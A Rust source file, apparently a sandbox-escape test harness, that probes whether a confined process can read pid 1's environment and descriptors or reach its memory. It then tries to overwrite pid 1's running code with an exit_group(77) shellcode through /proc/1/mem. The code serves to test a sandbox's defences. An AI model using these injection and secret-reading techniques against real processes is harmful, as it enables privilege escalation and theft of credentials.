//! The pid-1 takeover (issue 15, item 1) and the reads of pid 1's environment (item 2).
//! Each probe tries one way in; "escaped" means the sandbox let it succeed.

use std::ffi::CString;
use std::io::{Read, Write};

/// One probe's verdict.
struct Verdict {
    name: &'static str,
    escaped: bool,
    detail: String,
}

fn errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

/// `exit_group(77)` for this architecture.
fn shellcode() -> Vec<u8> {
    if cfg!(target_arch = "x86_64") {
        // mov edi, 77; mov eax, 231 (exit_group); syscall
        vec![0xbf, 77, 0, 0, 0, 0xb8, 231, 0, 0, 0, 0x0f, 0x05]
    } else {
        // movz x0, #77; movz x8, #94 (exit_group); svc #0
        [0xD280_09A0u32, 0xD280_0BC8, 0xD400_0001]
            .iter()
            .flat_map(|w| w.to_le_bytes())
            .collect()
    }
}

/// The user-space pc of pid 1 (the last field of `/proc/1/syscall`).
fn pid1_pc() -> Result<u64, String> {
    let text = std::fs::read_to_string("/proc/1/syscall").map_err(|e| e.to_string())?;
    let last = text
        .split_whitespace()
        .last()
        .ok_or("empty /proc/1/syscall")?;
    u64::from_str_radix(last.trim_start_matches("0x"), 16).map_err(|e| format!("{text}: {e}"))
}

fn read_proc(path: &str) -> Result<Vec<u8>, String> {
    let mut out = Vec::new();
    std::fs::File::open(path)
        .and_then(|mut f| f.read_to_end(&mut out))
        .map_err(|e| e.to_string())?;
    Ok(out)
}

fn status_line(name: &str) -> String {
    std::fs::read_to_string("/proc/1/status")
        .unwrap_or_default()
        .lines()
        .find(|l| l.starts_with(name))
        .unwrap_or("")
        .to_string()
}

fn probes(secret: Option<&str>) -> Vec<Verdict> {
    let mut out = Vec::new();
    let mut push = |name, escaped, detail: String| {
        out.push(Verdict {
            name,
            escaped,
            detail,
        })
    };

    // Reading pid 1's environment and command line: nothing of the caller's.
    let environ = read_proc("/proc/1/environ");
    push(
        "pid1-environ",
        environ.as_ref().is_ok_and(|e| !e.is_empty()),
        match &environ {
            Ok(e) => format!("{} bytes readable", e.len()),
            Err(e) => e.clone(),
        },
    );
    let cmdline = read_proc("/proc/1/cmdline").unwrap_or_default();
    let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
    push(
        "pid1-cmdline-secret",
        secret.is_some_and(|s| cmdline.contains(s)),
        format!("cmdline: {}", cmdline.trim()),
    );
    if let Some(secret) = secret {
        let own = read_proc("/proc/self/environ").unwrap_or_default();
        push(
            "app-environ-secret",
            String::from_utf8_lossy(&own).contains(secret),
            "the app's own environment".into(),
        );
    }

    // Pid 1's confinement as the kernel reports it.
    let seccomp = status_line("Seccomp:");
    push("pid1-seccomp", !seccomp.ends_with('2'), seccomp.clone());
    let nnp = status_line("NoNewPrivs:");
    push("pid1-no-new-privs", !nnp.ends_with('1'), nnp);
    let stat = std::fs::read_to_string("/proc/1/stat").unwrap_or_default();
    let fields: Vec<&str> = stat
        .rsplit_once(')')
        .map(|(_, r)| r.split_whitespace().collect())
        .unwrap_or_default();
    // Field 6 is the session, field 7 the controlling terminal (index N - 3 here).
    let (session, tty) = (fields.get(3).copied(), fields.get(4).copied());
    push(
        "pid1-session",
        session != Some("1") || tty != Some("0"),
        format!("session {session:?}, tty_nr {tty:?}"),
    );

    // Ways into pid 1's memory and descriptors.
    // Listing the numbers may be allowed to a caller that is the host's root; reaching
    // what they point at must not be.
    let names: Vec<String> = std::fs::read_dir("/proc/1/fd")
        .map(|d| {
            d.filter_map(|e| e.ok())
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    let reached: Vec<String> = ["0", "1", "2", "3", "4", "5"]
        .iter()
        .map(|n| n.to_string())
        .chain(names)
        .filter(|n| {
            let path = format!("/proc/1/fd/{n}");
            std::fs::read_link(&path).is_ok() || std::fs::File::open(&path).is_ok()
        })
        .collect();
    push(
        "pid1-fd",
        !reached.is_empty(),
        format!("reachable: {reached:?}"),
    );
    // SAFETY: plain integer arguments.
    let attach = unsafe { libc::ptrace(libc::PTRACE_SEIZE, 1, 0, 0) };
    push(
        "pid1-ptrace",
        attach == 0,
        format!("ptrace(PTRACE_SEIZE, 1) = {attach}, errno {}", errno()),
    );
    // SAFETY: plain integer arguments.
    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, 1, 0) };
    let got = if pidfd >= 0 {
        // SAFETY: plain integer arguments; a descriptor that may be returned is leaked.
        unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd, 0, 0) }
    } else {
        -1
    };
    push(
        "pid1-pidfd-getfd",
        got >= 0,
        format!("pidfd_open {pidfd}, pidfd_getfd {got}, errno {}", errno()),
    );
    let mut word = [0u8; 8];
    let pc = pid1_pc();
    let local = libc::iovec {
        iov_base: word.as_mut_ptr().cast(),
        iov_len: word.len(),
    };
    let remote = libc::iovec {
        iov_base: pc.as_ref().copied().unwrap_or(0x1000) as *mut libc::c_void,
        iov_len: word.len(),
    };
    // SAFETY: `local` describes `word`, writable for its length; `remote` is only
    // interpreted in pid 1's address space by the kernel.
    let n = unsafe { libc::process_vm_readv(1, &local, 1, &remote, 1, 0) };
    push(
        "pid1-process-vm",
        n > 0,
        format!("process_vm_readv = {n}, errno {}", errno()),
    );
    push("pid1-syscall-file", pc.is_ok(), format!("{pc:?}"));
    let mem = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open("/proc/1/mem");
    push(
        "pid1-mem-write",
        mem.is_ok(),
        format!("{:?}", mem.as_ref().map(|_| "opened")),
    );
    out
}

/// Writes `exit_group(77)` at pid 1's pc and wakes it up.
fn take_over() -> Result<(), String> {
    use std::os::unix::fs::FileExt;
    let pc = pid1_pc()?;
    let mem = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open("/proc/1/mem")
        .map_err(|e| e.to_string())?;
    mem.write_all_at(&shellcode(), pc)
        .map_err(|e| e.to_string())?;
    // Make pid 1's wait return: a grandchild, orphaned to pid 1, exits.
    // SAFETY: the attack is single-threaded; the children only call `fork` and `_exit`.
    unsafe {
        if libc::fork() == 0 {
            if libc::fork() == 0 {
                libc::usleep(100_000);
                libc::_exit(0);
            }
            libc::_exit(0);
        }
        libc::usleep(2_000_000);
    }
    Ok(())
}

/// `text` escaped for a JSON string.
fn json_text(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '"' => "\\\"".to_string(),
            '\\' => "\\\\".to_string(),
            c if (c as u32) < 0x20 => format!("\\u{:04x}", c as u32),
            c => c.to_string(),
        })
        .collect()
}

/// Runs every probe, prints the report, then attempts the takeover.
pub fn run(secret: Option<&str>) {
    let verdicts = probes(secret);
    let items: Vec<String> = verdicts
        .iter()
        .map(|v| {
            format!(
                "{{\"name\":\"{}\",\"escaped\":{},\"detail\":\"{}\"}}",
                v.name,
                v.escaped,
                json_text(&v.detail)
            )
        })
        .collect();
    println!("{{\"probes\":[{}]}}", items.join(","));
    let _ = std::io::stdout().flush();
    // Keep the secret alive in this process's memory, as a real attacker's target.
    let _keep = CString::new(secret.unwrap_or("")).ok();
    match take_over() {
        Ok(()) => eprintln!("portcullis-attack: wrote into pid 1; it did not exit"),
        Err(e) => eprintln!("portcullis-attack: takeover failed: {e}"),
    }
}
